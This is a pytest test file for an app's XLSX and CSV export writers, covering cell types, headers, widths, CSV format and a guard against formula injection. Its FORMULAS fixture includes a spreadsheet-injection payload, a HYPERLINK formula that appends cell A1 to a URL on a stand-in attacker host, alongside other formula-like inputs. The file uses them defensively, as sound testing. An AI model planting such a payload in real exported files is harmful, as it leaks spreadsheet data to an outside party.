"""The writers of services.exports: typed XLSX cells, a header, frozen panes and widths, CSV as
Excel opens it, and the formula guard in both (text that starts like a formula is never one)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from app.services.exports import writers
from app.services.exports.tables import (
    Column,
    Export,
    Table,
    columns,
    file_name,
    looks_like_formula,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "-1+2",
    "+1",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
]


def sample() -> Export:
    table = Table(
        "Sample",
        columns("Name", Column("Note", 30), "Value", "Day", "At", "Count"),
    )
    table.add("First", None, -5.0, dt.date(2025, 6, 1), dt.datetime(2025, 6, 1, 9, 30), 3)
    table.add("Second", "a note", 83.5, None, dt.datetime(2025, 6, 1, 14, 0, tzinfo=dt.UTC), 0)
    for text in FORMULAS:
        table.add(text, text, None, None, None, None)
    other = Table("Other: [sheet]?", columns("Only"))
    other.add("x")
    return Export("sample", [table, other])


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_the_guard_names_what_a_spreadsheet_reads_as_a_formula() -> None:
    for text in FORMULAS:
        assert looks_like_formula(text), text
    for text in ("Answer in language", "1.1", "", "a=b", "x-1", "85% or higher"):
        assert not looks_like_formula(text), text


class TestXlsx:
    def test_cells_keep_their_types(self) -> None:
        sheet = read_xlsx(writers.to_xlsx(sample()))["Sample"]
        first = [c for c in sheet[2]]
        assert first[0].value == "First" and first[0].data_type == "s"
        assert first[1].value is None
        # A real negative number stays a number: the guard is for text only.
        assert first[2].value == -5 and first[2].data_type == "n"
        assert first[3].is_date and first[3].value == dt.datetime(2025, 6, 1)
        assert first[3].number_format == "yyyy-mm-dd"
        assert first[4].is_date and first[4].value == dt.datetime(2025, 6, 1, 9, 30)
        assert first[5].value == 3 and first[5].data_type == "n"
        second = [c.value for c in sheet[3]]
        assert second[2] == 83.5
        # A moment with a time zone is written in UTC (spreadsheets have no time zones).
        assert second[4] == dt.datetime(2025, 6, 1, 14, 0)

    def test_header_frozen_panes_and_widths(self) -> None:
        book = read_xlsx(writers.to_xlsx(sample()))
        sheet = book["Sample"]
        assert [c.value for c in sheet[1]] == ["Name", "Note", "Value", "Day", "At", "Count"]
        assert all(c.font.bold for c in sheet[1])
        assert sheet.freeze_panes == "A2"
        # The longest value sets a width (within bounds); a column may set its own.
        longest = max(len(t) for t in FORMULAS)
        assert sheet.column_dimensions["A"].width == min(writers.MAX_WIDTH, longest + 2)
        assert sheet.column_dimensions["B"].width == 30
        assert sheet.column_dimensions["F"].width == writers.MIN_WIDTH
        # A sheet per table, named within Excel's rules.
        assert book.sheetnames == ["Sample", "Other sheet"]

    def test_text_that_starts_like_a_formula_is_a_string_cell(self) -> None:
        data = writers.to_xlsx(sample())
        sheet = read_xlsx(data)["Sample"]
        cells = [(row[0], row[1]) for row in sheet.iter_rows(min_row=4)]
        # (XML reads a carriage return back as a line feed: still text, never a formula.)
        assert [name.value for name, _ in cells] == [t.replace("\r", "\n") for t in FORMULAS]
        for name, note in cells:
            assert name.data_type == "s" and note.data_type == "s", name.value
        # No formula anywhere in the file's XML.
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            xml = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "<f " not in xml

    def test_characters_xml_cannot_hold_are_dropped(self) -> None:
        table = Table("T", columns("Text"))
        table.add("a\x00b\x07c")
        sheet = read_xlsx(writers.to_xlsx(Export("t", [table])))["T"]
        assert sheet["A2"].value == "abc"


class TestCsv:
    def test_as_excel_opens_it(self) -> None:
        data = writers.to_csv(sample())
        assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel reads as UTF-8
        assert b"\r\n" in data
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert rows[0] == ["Name", "Note", "Value", "Day", "At", "Count"]
        assert rows[1] == ["First", "", "-5", "2025-06-01", "2025-06-01 09:30", "3"]
        assert rows[2] == ["Second", "a note", "83.5", "", "2025-06-01 14:00", "0"]
        # The main table only: a CSV file is one table.
        assert len(rows) == 3 + len(FORMULAS)

    def test_text_that_starts_like_a_formula_gets_a_quote(self) -> None:
        rows = list(csv.reader(io.StringIO(writers.to_csv(sample()).decode("utf-8-sig"))))
        for row, text in zip(rows[3:], FORMULAS, strict=True):
            assert row[0] == "'" + text and row[1] == "'" + text

    @pytest.mark.parametrize(("value", "text"), [(1e20, "1e+20"), (2.0, "2"), (-0.25, "-0.25")])
    def test_numbers(self, value: float, text: str) -> None:
        assert writers.csv_text(value) == text


def test_file_names_are_safe_and_dated() -> None:
    day = dt.date(2026, 12, 7)
    assert file_name("testville-service", "scorecard", "", "at_risk", day=day) == (
        "testville-service-scorecard-at_risk-2026-12-07"
    )
    assert file_name("a b/c", 'x"y', day=day) == "a-b-c-x-y-2026-12-07"
